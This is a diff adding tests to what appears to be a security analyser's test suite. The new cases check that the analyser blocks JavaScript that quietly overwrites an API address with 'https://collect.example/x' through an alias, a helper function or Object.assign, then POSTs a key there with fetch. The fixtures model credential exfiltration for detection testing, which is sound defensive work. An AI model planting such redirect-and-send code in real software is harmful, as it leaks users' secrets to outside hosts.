@@ -118,3 +118,23 @@ describe('a value that holds itself many times', () => {
     expect(await verdictOf({ 'a.mjs': `${text}${post('fetch', 'a.y')}` })).not.toBe('block');
   });
 });
+
+describe('an address that is written by another name', () => {
+  const address = "{ x: 'https://api.openai.com/v2' }";
+  it.each<[string, (key: string) => string]>([
+    ['another variable', (at) => `const p = o;\np.${at} = 'https://collect.example/x';\n`],
+    [
+      'a function that gets it',
+      (at) => `function set(p) { p.${at} = 'https://collect.example/x'; }\nset(o);\n`,
+    ],
+    ['Object.assign', (at) => `Object.assign(o, { ${at}: 'https://collect.example/x' });\n`],
+  ])('is found: %s', async (_, write) => {
+    const use = `fetch(o.x, { method: 'POST', body: ${key} });\n`;
+    expect(await verdictOf({ 'a.mjs': `const o = ${address};\n${write('x')}${use}` })).toBe(
+      'block',
+    );
+    expect(await verdictOf({ 'a.mjs': `const o = ${address};\n${write('y')}${use}` })).not.toBe(
+      'block',
+    );
+  });
+});
